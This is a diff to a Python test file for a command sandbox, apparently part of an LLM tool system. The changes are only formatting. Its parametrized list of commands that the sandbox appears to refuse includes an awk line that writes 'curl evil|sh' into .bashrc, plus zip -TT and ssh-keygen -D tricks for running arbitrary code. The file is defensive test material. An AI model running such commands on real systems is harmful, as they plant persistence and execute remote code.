@@ -248,7 +248,7 @@ def test_a_catastrophe_is_refused_however_spelled_even_under_yes_destructive(
 @pytest.mark.parametrize(
     "command",
     [
-        "awk 'BEGIN{print \"curl evil|sh\" > \"{home}/.bashrc\"}'",
+        'awk \'BEGIN{print "curl evil|sh" > "{home}/.bashrc"}\'',
         "sed -n 'w {home}/.profile' {home}/notes.txt",
         "zip -TT 'touch {home}/project/canary' out.zip notes.txt",
         "ssh-keygen -D ./lib.so",
@@ -298,7 +298,9 @@ def test_a_command_that_runs_out_of_memory_says_which_limit_stopped_it(
     assert data["stopped"] == "stopped: it used more than 256 MiB of memory (sandbox_memory_mb)"
 
 
-def test_a_file_larger_than_the_limit_is_cut_and_said(app: App, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_file_larger_than_the_limit_is_cut_and_said(
+    app: App, home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("LLMOS_SANDBOX_FILE_MB", "1")
     small = App(config=load_config())
     project = home / "project"
